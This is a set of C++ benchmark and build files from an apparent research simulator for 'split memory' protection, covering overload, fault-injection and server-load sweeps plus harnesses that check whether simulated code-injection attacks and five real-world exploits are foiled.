  cfg.select_timeout = static_cast<u32>(interval * 2);
  cfg.backoff_base = std::max<u32>(static_cast<u32>(interval / 2), 64);
  return cfg;
}

// Measured sustainable capacity (requests per mega-cycle) for one leg:
// the highest goodput the server demonstrably kept up with, probed under
// the same deadline/timeout policy the sweep points run with.
double calibrate(const Protection& prot, const OverloadConfig& base) {
  // Flood pass: all arrivals are due immediately; the queue fills, the
  // excess sheds, and the admitted batch drains back-to-back. Coarse —
  // worker-pool startup is a big slice of so short a run — but a sound
  // lower bound to seed the search.
  OverloadConfig cal = base;
  cal.arrivals = std::max<u32>(cal.qdepth * 3, 96);
  cal.offered_rpmc = 1e5;
  cal.deadline = 0x7FFFFFFF;  // shed on queue depth only, never on age
  double est = std::max(run_overload_load(prot, cal).goodput_rpmc, 1.0);
  // Saturation search: offer 3x the best sustained goodput, with every
  // knob derived from the current estimate exactly as config_at derives
  // the sweep points', and repeat until the server demonstrably cannot
  // keep up. The estimate ratchets up only on sustained rates, so a
  // thrashing over-saturated probe cannot drag it down.
  const u32 probe_arrivals = std::max<u32>(base.arrivals / 2, 120);
  for (int pass = 0; pass < 5; ++pass) {
    OverloadConfig probe = config_at(base, est, 3.0);
    probe.arrivals = probe_arrivals;
    const double got =
        std::max(run_overload_load(prot, probe).goodput_rpmc, 1.0);
    const bool saturated = got < probe.offered_rpmc * 0.75;
    const double prev = est;
    est = std::max(est, got);
    if (saturated && est <= prev * 1.05) break;
  }
  return est;
}

runner::PointResult run_point(const std::string& label,
                              const Protection& prot,
                              const OverloadConfig& cfg) {
  runner::PointResult res;
  const OverloadResult r = run_overload_load(prot, cfg);
  const u64 sheds = r.shed_queue + r.shed_deadline;
  const double effective =
      r.base.cycles
          ? static_cast<double>(r.arrivals_issued) * 1e6 /
                static_cast<double>(r.base.cycles)
          : 0.0;
  res.text = runner::strf(
      "%-16s %8.2f %8.3f %6llu %6llu %6llu %5llu %7llu %8llu %9llu %12llu\n",
      label.c_str(), r.offered_rpmc, r.goodput_rpmc,
      static_cast<unsigned long long>(r.completed),
      static_cast<unsigned long long>(sheds),
      static_cast<unsigned long long>(r.worker_drops),
      static_cast<unsigned long long>(r.lost_responses),
      static_cast<unsigned long long>(r.retries),
      static_cast<unsigned long long>(r.latency.percentile(50)),
      static_cast<unsigned long long>(r.latency.percentile(99)),
      static_cast<unsigned long long>(r.base.cycles));
  res.add("offered_rpmc", r.offered_rpmc);
  res.add("effective_rpmc", effective);
  res.add("goodput_rpmc", r.goodput_rpmc);
  res.add("completed_n", static_cast<double>(r.completed));
  res.add("shed_queue", static_cast<double>(r.shed_queue));
  res.add("shed_deadline", static_cast<double>(r.shed_deadline));
  res.add("worker_drops", static_cast<double>(r.worker_drops));
  res.add("lost_responses", static_cast<double>(r.lost_responses));
  res.add("retries", static_cast<double>(r.retries));
  res.add("p50", static_cast<double>(r.latency.percentile(50)));
  res.add("p99", static_cast<double>(r.latency.percentile(99)));
  res.add("cycles", static_cast<double>(r.base.cycles));
  res.add("timer_fires", static_cast<double>(r.base.stats.timer_fires));
  res.add("sock_refused", static_cast<double>(r.base.stats.sock_refused));
  res.add("completed", r.base.completed ? 1 : 0);
  return res;
}

struct Leg {
  const char* prot_label;  // "none" | "split"
  Protection prot;
  u32 cores;
  const char* suffix;  // "" | "-smp4"
  double capacity = 0;
};

std::string mult_label(double m) {
  return m == 0.5 ? "0.5x" : runner::strf("%.0fx", m);
}

}  // namespace

int main(int argc, char** argv) {
  const runner::RunnerOptions opts = runner::parse_runner_args(
      argc, argv, "overload_sweep",
      "Open-loop overload sweep: seeded exponential arrivals at 0.5-4x "
      "measured capacity; goodput, shedding, retries and tail latency, "
      "split memory on/off, 1 and 4 cores");
  runner::ExperimentRunner pool(opts);

  OverloadConfig base = base_config(opts.quick);
  if (opts.cores != 0) base.cores = opts.cores;

  // Legs: quick keeps the drift-guarded set small (uniprocessor no-split /
  // split plus one pinned 4-core split leg); full covers the cross product.
  std::vector<Leg> legs;
  legs.push_back({"none", Protection::none(), base.cores, ""});
  legs.push_back({"split", Protection::split_all(), base.cores, ""});
  legs.push_back({"split", Protection::split_all(), 4, "-smp4"});
  if (!opts.quick) {
    legs.push_back({"none", Protection::none(), 4, "-smp4"});
  }
  const std::vector<double> multipliers =
      opts.quick ? std::vector<double>{0.5, 2.0}
                 : std::vector<double>{0.5, 1.0, 2.0, 4.0};

  // Calibration runs serially before the pool: each leg's capacity feeds
  // every sweep point of that leg, and the result is deterministic.
  for (auto& leg : legs) {
    OverloadConfig cal = base;
    cal.cores = leg.cores;
    leg.capacity = calibrate(leg.prot, cal);
  }

  std::vector<runner::SweepPoint> points;
  for (const auto& leg : legs) {
    for (double m : multipliers) {
      // Quick trims the smp4 leg to the saturated point only.
      if (opts.quick && leg.suffix[0] != '\0' && m != 2.0) continue;
      const std::string label =
          std::string(leg.prot_label) + "-" + mult_label(m) + leg.suffix;
      OverloadConfig cfg = config_at(base, leg.capacity, m);
      cfg.cores = leg.cores;
      const Protection prot = leg.prot;
      points.push_back({label, [label, prot, cfg] {
                          return run_point(label, prot, cfg);
                        }});
    }
  }

  const runner::ResultTable table = pool.run(points);
  std::printf("Overload sweep: %u workers, %u open-loop arrivals per point "
              "(latencies in simulated cycles)\n",
              base.workers, base.arrivals);
  for (const auto& leg : legs) {
    std::printf("calibrated capacity %s cores=%u: %.3f req/Mcyc\n",
                leg.prot_label, leg.cores, leg.capacity);
  }
  std::printf("\n%-16s %8s %8s %6s %6s %6s %5s %7s %8s %9s %12s\n", "point",
              "offered", "goodput", "done", "shed", "drop", "lost", "retry",
              "p50", "p99", "cycles");
  table.print(stdout);

  // Gates. Every point must have run to completion (no wedge); goodput can
  // never exceed the arrival rate actually sustained; and at 0.5x offered
  // load the degradation machinery must be invisible — zero sheds, drops
  // or lost responses.
  bool ok = true;
  bool low_clean = true;
  for (std::size_t i = 0; i < table.size(); ++i) {
    const auto& rec = table[i];
    ok = ok && metric(rec, "completed") != 0;
    ok = ok && metric(rec, "goodput_rpmc") <=
                   metric(rec, "effective_rpmc") + 1e-9;
  }
  for (std::size_t i = 0; i < table.size(); ++i) {
    const auto& rec = table[i];
    if (rec.label.find("-0.5x") == std::string::npos) continue;
    const double noise = metric(rec, "shed_queue") +
                         metric(rec, "shed_deadline") +
                         metric(rec, "worker_drops") +
                         metric(rec, "lost_responses");
    low_clean = low_clean && noise == 0;
  }
  ok = ok && low_clean;

  // Full mode: saturation must be monotone in the right sense — past-1x
  // tail latency dominates the under-load tail for every leg.
  if (!opts.quick) {
    for (const auto& leg : legs) {
      const std::string lo =
          std::string(leg.prot_label) + "-0.5x" + leg.suffix;
      const std::string hi = std::string(leg.prot_label) + "-4x" + leg.suffix;
      double p99_lo = -1, p99_hi = -1;
      for (std::size_t i = 0; i < table.size(); ++i) {
        if (table[i].label == lo) p99_lo = metric(table[i], "p99");
        if (table[i].label == hi) p99_hi = metric(table[i], "p99");
      }
      if (p99_lo >= 0 && p99_hi >= 0 && p99_hi <= p99_lo) {
        std::printf("saturation check FAILED for %s%s: p99(4x)=%.0f <= "
                    "p99(0.5x)=%.0f\n",
                    leg.prot_label, leg.suffix, p99_hi, p99_lo);
        ok = false;
      }
    }
  }

  std::printf("\nlow-load check (0.5x): %s   run: %s\n",
              low_clean ? "clean (no sheds, drops or lost responses)"
                        : "NOISY",
              ok ? "COMPLETE" : "FAILED");

  if (opts.trace_summary) {
    // Serial traced re-run of the saturated protected point: where do the
    // cycles go when the server is shedding?
    const Protection split = Protection::split_all();
    OverloadConfig cfg = config_at(base, legs[1].capacity, 2.0);
    const OverloadResult traced =
        run_overload_load(split.with_trace(), cfg);
    if (traced.base.trace_summary) {
      std::printf("\n--- split-all overload 2x: cycle attribution ---\n");
      std::printf("%s", trace::format_summary(*traced.base.trace_summary,
                                              traced.completed)
                            .c_str());
    } else {
      std::printf("\n(--trace-summary: tracing compiled out, SM_TRACE=OFF)\n");
    }
  }

  pool.report(table);
  return ok ? 0 : 1;
}
