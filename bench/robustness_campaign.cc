// Fault-injection robustness campaign (ISSUE 5 acceptance harness).
//
// Pairs N seeded guest programs with N seeded fault schedules and replays
// each pair against the split-memory engine with the invariant watchdog
// attached. Each sweep point:
//
//   1. runs its program CLEAN once to measure the retired-instruction
//      count, so the fault schedule's horizon matches the program (every
//      count-scheduled fault lands inside the run, not after exit);
//   2. re-runs with the FaultInjector + InvariantWatchdog armed;
//   3. reports, per fault kind, how every fault was accounted for:
//      recovered / degraded / breach / unfired — NEVER silent.
//
// The campaign fails (exit 1) on any security breach or any fired fault
// left unclassified. Per-point work is fully self-contained, so the
// ExperimentRunner --jobs determinism contract holds: --jobs=N stdout is
// byte-identical to --jobs=1.
//
// Schedule count: 500 (the acceptance bar), 60 with --quick; the
// SM_CAMPAIGN_SCHEDULES environment variable overrides both (CI uses 200).
#include <cstdio>
#include <cstdlib>
#include <string>
#include <vector>

#include "asm/assembler.h"
#include "core/split_engine.h"
#include "fuzz/generator.h"
#include "fuzz/oracle.h"
#include "fuzz/rng.h"
#include "guest/guestlib.h"
#include "image/image.h"
#include "inject/fault_injector.h"
#include "invariant/watchdog.h"
#include "kernel/kernel.h"
#include "runner/experiment_runner.h"

using namespace sm;
using arch::u32;
using arch::u64;

namespace {

constexpr u32 kFaultsPerSchedule = 16;
constexpr u64 kBudget = 20'000'000;

struct PairOutcome {
  u64 clean_instructions = 0;
  inject::FaultSchedule schedule;
  std::vector<inject::FaultInjector::Record> records;
  u32 breaches = 0;
  u32 violations = 0;
  u32 recoveries = 0;
  u32 degradations = 0;
  u64 oom_degradations = 0;
  bool completed = false;  // run ended by exit/block, not budget exhaustion
};

PairOutcome run_pair(u64 index) {
  PairOutcome out;
  const fuzz::FuzzCase c = fuzz::generate(fuzz::case_seed(0xB0B0, index));

  const auto program = assembler::assemble(guest::program(c.body));
  image::BuildOptions bopts;
  bopts.name = "campaign";
  bopts.mixed_text = c.mixed_text;
  const image::Image img = image::build_image(program, bopts);

  // Pass 1: clean run, to size the fault horizon to the program.
  {
    kernel::Kernel k;
    k.set_engine(core::make_engine(core::ProtectionMode::kSplitAll,
                                   core::ResponseMode::kBreak));
    k.register_image(img);
    k.spawn("campaign");
    k.run(kBudget);
    out.clean_instructions = k.stats().instructions;
  }

  out.schedule = inject::FaultSchedule::generate(
      fuzz::case_seed(0xFA17, index), kFaultsPerSchedule,
      out.clean_instructions < 2 ? 2 : out.clean_instructions);

  // Pass 2: same program on the faulty machine, watchdog attached.
  {
    kernel::Kernel k;
    k.set_engine(core::make_engine(core::ProtectionMode::kSplitAll,
                                   core::ResponseMode::kBreak));
    k.register_image(img);
    inject::FaultInjector injector(out.schedule);
    invariant::InvariantWatchdog watchdog;
    injector.attach(k);
    watchdog.attach(k, &injector);
    k.spawn("campaign");
    const auto result = k.run(kBudget);
    watchdog.finalize(k);
    out.completed = result != kernel::Kernel::RunResult::kBudgetExhausted;
    out.records = injector.records();
    out.breaches = watchdog.breaches();
    out.violations = watchdog.violations();
    out.recoveries = watchdog.recoveries();
    out.degradations = watchdog.degradations();
    out.oom_degradations = k.stats().split_oom_degradations;
  }
  return out;
}

std::string outcome_metric(inject::FaultKind kind, const char* what) {
  return std::string(inject::to_string(kind)) + "/" + what;
}

}  // namespace

int main(int argc, char** argv) {
  runner::RunnerOptions opts = runner::parse_runner_args(
      argc, argv, "robustness_campaign",
      "Seeded fault-injection campaign: every fault recovered, degraded or "
      "reported — zero breaches, nothing silent");

  u32 schedules = opts.quick ? 60 : 500;
  if (const char* env = std::getenv("SM_CAMPAIGN_SCHEDULES")) {
    schedules = static_cast<u32>(std::strtoul(env, nullptr, 0));
    if (schedules == 0) schedules = 1;
  }

  std::vector<runner::SweepPoint> points;
  points.reserve(schedules);
  for (u32 i = 0; i < schedules; ++i) {
    points.push_back({runner::strf("schedule %04u", i), [i] {
                        const PairOutcome o = run_pair(i);
                        runner::PointResult r;
                        u32 fired = 0;
                        u32 unclassified = 0;
                        for (const auto& rec : o.records) {
                          const inject::FaultKind kind = rec.fault.kind;
                          if (!rec.fired) {
                            r.add(outcome_metric(kind, "unfired"), 1);
                            continue;
                          }
                          ++fired;
                          if (!rec.outcome.has_value()) {
                            ++unclassified;
                            r.add(outcome_metric(kind, "unclassified"), 1);
                            continue;
                          }
                          r.add(outcome_metric(kind,
                                               to_string(*rec.outcome)),
                                1);
                        }
                        r.add("fired", fired);
                        r.add("unclassified", unclassified);
                        r.add("breaches", o.breaches);
                        r.add("violations", o.violations);
                        r.add("recoveries", o.recoveries);
                        r.add("degradations", o.degradations);
                        r.add("oom_degradations",
                              static_cast<double>(o.oom_degradations));
                        r.add("incomplete", o.completed ? 0 : 1);
                        r.text = runner::strf(
                            "schedule %04u  instret=%-9llu fired=%2u "
                            "viol=%3u rec=%3u deg=%u oom=%llu breach=%u%s\n",
                            i,
                            static_cast<unsigned long long>(
                                o.clean_instructions),
                            fired, o.violations, o.recoveries,
                            o.degradations,
                            static_cast<unsigned long long>(
                                o.oom_degradations),
                            o.breaches,
                            o.completed ? "" : "  INCOMPLETE");
                        return r;
                      }});
  }

  runner::ExperimentRunner pool(opts);
  const runner::ResultTable table = pool.run(points);
  table.print(stdout);

  // Per-kind accounting: every scheduled fault of every run lands in
  // exactly one column.
  std::printf("\n%-16s %9s %6s %10s %9s %7s %8s\n", "fault kind", "scheduled",
              "fired", "recovered", "degraded", "breach", "unfired");
  double total_breach = 0;
  double total_unclassified = 0;
  double total_incomplete = 0;
  for (u32 ki = 0; ki < static_cast<u32>(inject::FaultKind::kCount); ++ki) {
    const auto kind = static_cast<inject::FaultKind>(ki);
    double rec = 0, deg = 0, breach = 0, unfired = 0, unclassified = 0;
    for (std::size_t p = 0; p < table.size(); ++p) {
      rec += metric(table[p], outcome_metric(kind, "recovered"));
      deg += metric(table[p], outcome_metric(kind, "degraded"));
      breach += metric(table[p], outcome_metric(kind, "breach"));
      unfired += metric(table[p], outcome_metric(kind, "unfired"));
      unclassified += metric(table[p], outcome_metric(kind, "unclassified"));
    }
    const double fired = rec + deg + breach + unclassified;
    std::printf("%-16s %9.0f %6.0f %10.0f %9.0f %7.0f %8.0f\n",
                inject::to_string(kind), fired + unfired, fired, rec, deg,
                breach, unfired);
    total_breach += breach;
    total_unclassified += unclassified;
  }
  for (std::size_t p = 0; p < table.size(); ++p) {
    total_incomplete += metric(table[p], "incomplete");
  }

  std::printf("\ncampaign: %u schedules x %u faults, breaches=%.0f "
              "unclassified=%.0f incomplete=%.0f\n",
              schedules, kFaultsPerSchedule, total_breach, total_unclassified,
              total_incomplete);
  pool.report(table);

  const bool failed =
      total_breach > 0 || total_unclassified > 0 || total_incomplete > 0;
  if (failed) {
    std::fprintf(stderr,
                 "robustness_campaign: FAILED (breach, silent fault, or "
                 "wedged run)\n");
  }
  return failed ? 1 : 0;
}
