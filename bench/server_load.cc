// High-traffic server benchmark: an event-driven master + forked worker
// pool under a seeded closed-loop request stream (ROADMAP item 3; cf. the
// Apache/Nginx-style server-throughput evaluations of the isolation-
// mechanism literature). Reports throughput and p50/p99/p999 tail latency
// with and without split-memory protection — the scaling scenario the
// fig8 single-server experiment cannot show, and the load under which the
// kernel's O(1) wakeup/runqueue/fd paths earn their keep.
//
// Full point set: 1000 workers, 10^5 requests. --quick: 64 workers, 2000
// requests (the ctest smoke + determinism legs).
#include <cstdio>
#include <vector>

#include "runner/experiment_runner.h"
#include "trace/profiler.h"
#include "workloads/workload.h"

using namespace sm;
using namespace sm::workloads;

namespace {

ServerLoadConfig config_for(bool quick) {
  ServerLoadConfig cfg;
  if (quick) {
    cfg.workers = 64;
    cfg.requests = 2000;
    cfg.window = 256;
  } else {
    cfg.workers = 1000;
    cfg.requests = 100000;
    cfg.window = 4096;
  }
  return cfg;
}

runner::PointResult run_point(const char* label, const Protection& prot,
                              const ServerLoadConfig& cfg) {
  runner::PointResult res;
  const ServerLoadResult r = run_server_load(prot, cfg);
  res.text = runner::strf(
      "%-12s %7u %8u %14llu %10.3f %9llu %9llu %9llu %10llu\n", label,
      cfg.workers, cfg.requests,
      static_cast<unsigned long long>(r.base.cycles), r.requests_per_mcycle,
      static_cast<unsigned long long>(r.latency.percentile(50)),
      static_cast<unsigned long long>(r.latency.percentile(99)),
      static_cast<unsigned long long>(r.latency.percentile(99.9)),
      static_cast<unsigned long long>(r.latency.max()));
  res.add("throughput_rpmc", r.requests_per_mcycle);
  res.add("p50", static_cast<double>(r.latency.percentile(50)));
  res.add("p99", static_cast<double>(r.latency.percentile(99)));
  res.add("p999", static_cast<double>(r.latency.percentile(99.9)));
  res.add("latency_mean", r.latency.mean());
  res.add("cycles", static_cast<double>(r.base.cycles));
  res.add("ctxsw", static_cast<double>(r.base.stats.context_switches));
  res.add("completed", r.base.completed ? 1 : 0);
  return res;
}

}  // namespace

int main(int argc, char** argv) {
  const runner::RunnerOptions opts = runner::parse_runner_args(
      argc, argv, "server_load",
      "High-traffic server: event-driven master + forked worker pool under "
      "a seeded closed-loop request stream; throughput and p50/p99/p999 "
      "latency, split memory on/off");
  runner::ExperimentRunner pool(opts);

  ServerLoadConfig cfg = config_for(opts.quick);
  if (opts.cores != 0) cfg.cores = opts.cores;
  const Protection none = Protection::none();
  const Protection split = Protection::split_all();

  std::vector<runner::SweepPoint> points;
  points.push_back(
      {"no-split", [&] { return run_point("no-split", none, cfg); }});
  points.push_back(
      {"split-all", [&] { return run_point("split-all", split, cfg); }});
  // SMP leg (quick set only): the same protected serve on 4 cores with
  // per-core split TLBs and IPI shootdown. Pinned to 4 regardless of
  // --cores so the quick output is one fixed, drift-guarded point set.
  ServerLoadConfig smp = cfg;
  smp.cores = 4;
  if (opts.quick) {
    points.push_back(
        {"split-smp4", [&] { return run_point("split-smp4", split, smp); }});
  }

  const runner::ResultTable table = pool.run(points);
  std::printf("Server load: %u workers, %u requests, window %u "
              "(latencies in simulated cycles)\n\n",
              cfg.workers, cfg.requests, cfg.window);
  std::printf("%-12s %7s %8s %14s %10s %9s %9s %9s %10s\n", "mode", "workers",
              "requests", "cycles", "req/Mcyc", "p50", "p99", "p999", "max");
  table.print(stdout);

  bool ok = true;
  for (const auto& rec : table.points()) {
    ok = ok && metric(rec, "completed") != 0;
  }
  const double t_none = metric(table[0], "throughput_rpmc");
  const double t_split = metric(table[1], "throughput_rpmc");
  std::printf("\nsplit/no-split throughput: %.3f   run: %s\n",
              t_none > 0 ? t_split / t_none : 0, ok ? "COMPLETE" : "WEDGED");

  if (opts.trace_summary) {
    // Serial traced re-run of the protected point: where does split
    // overhead land under production-shaped traffic?
    const ServerLoadResult traced =
        run_server_load(split.with_trace(), cfg);
    if (traced.base.trace_summary) {
      std::printf("\n--- split-all server: cycle attribution ---\n");
      std::printf("%s", trace::format_summary(*traced.base.trace_summary,
                                              traced.requests_completed)
                            .c_str());
    } else {
      std::printf("\n(--trace-summary: tracing compiled out, SM_TRACE=OFF)\n");
    }
  }

  pool.report(table);
  return ok ? 0 : 1;
}
