// Reproduces paper Table 1: "Benchmark Attacks Foiled when Code Is
// Injected onto the Data, Bss, Heap, and Stack Segments" — the Wilander &
// Kamkar grid of 6 hijack techniques x 4 injection segments, 4 cells N/A.
//
// Each applicable cell is run twice: unprotected (the attack must succeed,
// otherwise the cell proves nothing) and under stand-alone split memory
// (a checkmark means the attack was foiled, as in the paper).
#include <cstdio>

#include "attacks/wilander.h"

using namespace sm;
using namespace sm::attacks::wilander;

int main() {
  std::printf(
      "Table 1: Wilander benchmark attacks foiled by split memory\n"
      "(cell: check = foiled under split-all; '!' = NOT foiled;\n"
      " cell also verified to succeed on the unprotected baseline)\n\n");
  std::printf("%-16s %8s %8s %8s %8s\n", "technique", "data", "bss", "heap",
              "stack");

  int foiled = 0;
  int na = 0;
  int baseline_failures = 0;
  for (const Technique t : kAllTechniques) {
    std::printf("%-16s", to_string(t));
    for (const Segment s :
         {Segment::kData, Segment::kBss, Segment::kHeap, Segment::kStack}) {
      if (!applicable(t, s)) {
        std::printf(" %8s", "N/A");
        ++na;
        continue;
      }
      const CaseResult base = run_case(t, s, core::ProtectionMode::kNone);
      const CaseResult split =
          run_case(t, s, core::ProtectionMode::kSplitAll);
      const bool base_ok = base.shell_spawned;
      if (!base_ok) ++baseline_failures;
      if (split.foiled()) ++foiled;
      std::printf(" %8s", !base_ok ? "(base!)" : (split.foiled() ? "+" : "!"));
    }
    std::printf("\n");
  }
  std::printf(
      "\n%d/20 applicable attacks foiled, %d N/A (paper: all 20 foiled, "
      "4 N/A)\n",
      foiled, na);
  if (baseline_failures != 0) {
    std::printf("WARNING: %d attacks did not succeed unprotected\n",
                baseline_failures);
    return 1;
  }
  return foiled == 20 ? 0 : 1;
}
