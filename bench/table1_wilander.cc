// Reproduces paper Table 1: "Benchmark Attacks Foiled when Code Is
// Injected onto the Data, Bss, Heap, and Stack Segments" — the Wilander &
// Kamkar grid of 6 hijack techniques x 4 injection segments, 4 cells N/A.
//
// Each applicable cell is run twice: unprotected (the attack must succeed,
// otherwise the cell proves nothing) and under stand-alone split memory
// (a checkmark means the attack was foiled, as in the paper). Every
// applicable cell is one sweep point; rows are reassembled in grid order.
#include <cstdio>
#include <vector>

#include "attacks/wilander.h"
#include "runner/experiment_runner.h"

using namespace sm;
using namespace sm::attacks::wilander;

int main(int argc, char** argv) {
  const runner::RunnerOptions opts = runner::parse_runner_args(
      argc, argv, "table1_wilander",
      "Table 1: Wilander benchmark grid (6 techniques x 4 segments), "
      "unprotected baseline vs stand-alone split memory");
  runner::ExperimentRunner pool(opts);

  std::vector<Technique> techniques(std::begin(kAllTechniques),
                                    std::end(kAllTechniques));
  if (opts.quick) techniques.resize(2);
  const Segment segments[] = {Segment::kData, Segment::kBss, Segment::kHeap,
                              Segment::kStack};

  // One point per applicable cell, in grid (row-major) order.
  std::vector<runner::SweepPoint> points;
  for (const Technique t : techniques) {
    for (const Segment s : segments) {
      if (!applicable(t, s)) continue;
      points.push_back({runner::strf("%s/%d", to_string(t),
                                     static_cast<int>(s)),
                        [t, s] {
        runner::PointResult res;
        const CaseResult base = run_case(t, s, core::ProtectionMode::kNone);
        const CaseResult split =
            run_case(t, s, core::ProtectionMode::kSplitAll);
        res.add("base_ok", base.shell_spawned);
        res.add("foiled", split.foiled());
        return res;
      }});
    }
  }

  const runner::ResultTable table = pool.run(points);
  std::printf(
      "Table 1: Wilander benchmark attacks foiled by split memory\n"
      "(cell: check = foiled under split-all; '!' = NOT foiled;\n"
      " cell also verified to succeed on the unprotected baseline)\n\n");
  std::printf("%-16s %8s %8s %8s %8s\n", "technique", "data", "bss", "heap",
              "stack");

  int foiled = 0;
  int na = 0;
  int applicable_cells = 0;
  int baseline_failures = 0;
  std::size_t next_point = 0;
  for (const Technique t : techniques) {
    std::printf("%-16s", to_string(t));
    for (const Segment s : segments) {
      if (!applicable(t, s)) {
        std::printf(" %8s", "N/A");
        ++na;
        continue;
      }
      const auto& rec = table[next_point++];
      const bool base_ok = metric(rec, "base_ok") != 0;
      const bool cell_foiled = metric(rec, "foiled") != 0;
      ++applicable_cells;
      if (!base_ok) ++baseline_failures;
      if (cell_foiled) ++foiled;
      std::printf(" %8s", !base_ok ? "(base!)" : (cell_foiled ? "+" : "!"));
    }
    std::printf("\n");
  }
  std::printf(
      "\n%d/%d applicable attacks foiled, %d N/A (paper: all 20 foiled, "
      "4 N/A)\n",
      foiled, applicable_cells, na);
  pool.report(table);
  if (baseline_failures != 0) {
    std::printf("WARNING: %d attacks did not succeed unprotected\n",
                baseline_failures);
    return 1;
  }
  return foiled == applicable_cells ? 0 : 1;
}
