// Reproduces paper Table 2: "Five Real-World Vulnerabilities" — each
// exploit runs against the unprotected baseline (attack result: rootshell)
// and under stand-alone split memory (result: foiled).
#include <cstdio>

#include "attacks/realworld.h"

using namespace sm;
using namespace sm::attacks::realworld;

int main() {
  std::printf("Table 2: five real-world vulnerabilities\n\n");
  std::printf("%-32s %-32s %-7s %-22s %-s\n", "software", "exploit",
              "injects", "unprotected result", "split-memory result");

  bool all_good = true;
  for (const Exploit e : kAllExploits) {
    const AttackResult base = run_attack(e, core::ProtectionMode::kNone);
    const AttackResult split = run_attack(e, core::ProtectionMode::kSplitAll);
    std::string base_result =
        base.shell_spawned ? "rootshell" : "NO SHELL (unexpected)";
    if (e == Exploit::kSamba) {
      base_result += " (attempt " + std::to_string(base.attempts) + ")";
    }
    const std::string split_result =
        !split.shell_spawned && split.detected
            ? "foiled (detected)"
            : (split.shell_spawned ? "NOT FOILED" : "foiled");
    std::printf("%-32s %-32s %-7s %-22s %-s\n", software(e), exploit_name(e),
                injects_to(e), base_result.c_str(), split_result.c_str());
    all_good = all_good && base.shell_spawned && !split.shell_spawned &&
               split.detected;
  }
  std::printf("\npaper: all five exploits spawn a shell unprotected and are "
              "foiled by split memory — %s\n",
              all_good ? "REPRODUCED" : "MISMATCH");
  return all_good ? 0 : 1;
}
