// Reproduces paper Table 2: "Five Real-World Vulnerabilities" — each
// exploit runs against the unprotected baseline (attack result: rootshell)
// and under stand-alone split memory (result: foiled). One sweep point per
// exploit; rows print in table order.
#include <cstdio>
#include <string>
#include <vector>

#include "attacks/realworld.h"
#include "runner/experiment_runner.h"

using namespace sm;
using namespace sm::attacks::realworld;

int main(int argc, char** argv) {
  const runner::RunnerOptions opts = runner::parse_runner_args(
      argc, argv, "table2_realworld",
      "Table 2: five real-world exploits, unprotected baseline vs "
      "stand-alone split memory");
  runner::ExperimentRunner pool(opts);

  std::vector<Exploit> exploits(std::begin(kAllExploits),
                                std::end(kAllExploits));
  if (opts.quick) exploits.resize(2);

  std::vector<runner::SweepPoint> points;
  for (const Exploit e : exploits) {
    points.push_back({exploit_name(e), [e] {
      runner::PointResult res;
      const AttackResult base = run_attack(e, core::ProtectionMode::kNone);
      const AttackResult split =
          run_attack(e, core::ProtectionMode::kSplitAll);
      std::string base_result =
          base.shell_spawned ? "rootshell" : "NO SHELL (unexpected)";
      if (e == Exploit::kSamba) {
        base_result += " (attempt " + std::to_string(base.attempts) + ")";
      }
      const std::string split_result =
          !split.shell_spawned && split.detected
              ? "foiled (detected)"
              : (split.shell_spawned ? "NOT FOILED" : "foiled");
      res.text = runner::strf("%-32s %-32s %-7s %-22s %-s\n", software(e),
                              exploit_name(e), injects_to(e),
                              base_result.c_str(), split_result.c_str());
      res.add("ok", base.shell_spawned && !split.shell_spawned &&
                        split.detected);
      return res;
    }});
  }

  const runner::ResultTable table = pool.run(points);
  std::printf("Table 2: five real-world vulnerabilities\n\n");
  std::printf("%-32s %-32s %-7s %-22s %-s\n", "software", "exploit",
              "injects", "unprotected result", "split-memory result");
  table.print(stdout);
  bool all_good = true;
  for (const auto& rec : table.points()) {
    all_good = all_good && metric(rec, "ok") != 0;
  }
  std::printf("\npaper: all five exploits spawn a shell unprotected and are "
              "foiled by split memory — %s\n",
              all_good ? "REPRODUCED" : "MISMATCH");
  pool.report(table);
  return all_good ? 0 : 1;
}
