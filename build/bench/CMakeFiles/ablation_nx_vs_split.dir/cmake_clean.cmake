file(REMOVE_RECURSE
  "CMakeFiles/ablation_nx_vs_split.dir/ablation_nx_vs_split.cc.o"
  "CMakeFiles/ablation_nx_vs_split.dir/ablation_nx_vs_split.cc.o.d"
  "ablation_nx_vs_split"
  "ablation_nx_vs_split.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/ablation_nx_vs_split.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
