# Empty compiler generated dependencies file for ablation_nx_vs_split.
# This may be replaced when dependencies are built.
