
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/bench/ablation_portability.cc" "bench/CMakeFiles/ablation_portability.dir/ablation_portability.cc.o" "gcc" "bench/CMakeFiles/ablation_portability.dir/ablation_portability.cc.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/attacks/CMakeFiles/sm_attacks.dir/DependInfo.cmake"
  "/root/repo/build/src/workloads/CMakeFiles/sm_workloads.dir/DependInfo.cmake"
  "/root/repo/build/src/core/CMakeFiles/sm_core.dir/DependInfo.cmake"
  "/root/repo/build/src/guest/CMakeFiles/sm_guest.dir/DependInfo.cmake"
  "/root/repo/build/src/kernel/CMakeFiles/sm_kernel.dir/DependInfo.cmake"
  "/root/repo/build/src/image/CMakeFiles/sm_image.dir/DependInfo.cmake"
  "/root/repo/build/src/asm/CMakeFiles/sm_asm.dir/DependInfo.cmake"
  "/root/repo/build/src/arch/CMakeFiles/sm_arch.dir/DependInfo.cmake"
  "/root/repo/build/src/metrics/CMakeFiles/sm_metrics.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
