file(REMOVE_RECURSE
  "CMakeFiles/ablation_portability.dir/ablation_portability.cc.o"
  "CMakeFiles/ablation_portability.dir/ablation_portability.cc.o.d"
  "ablation_portability"
  "ablation_portability.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/ablation_portability.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
