# Empty dependencies file for ablation_portability.
# This may be replaced when dependencies are built.
