file(REMOVE_RECURSE
  "CMakeFiles/ablation_tlb_geometry.dir/ablation_tlb_geometry.cc.o"
  "CMakeFiles/ablation_tlb_geometry.dir/ablation_tlb_geometry.cc.o.d"
  "ablation_tlb_geometry"
  "ablation_tlb_geometry.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
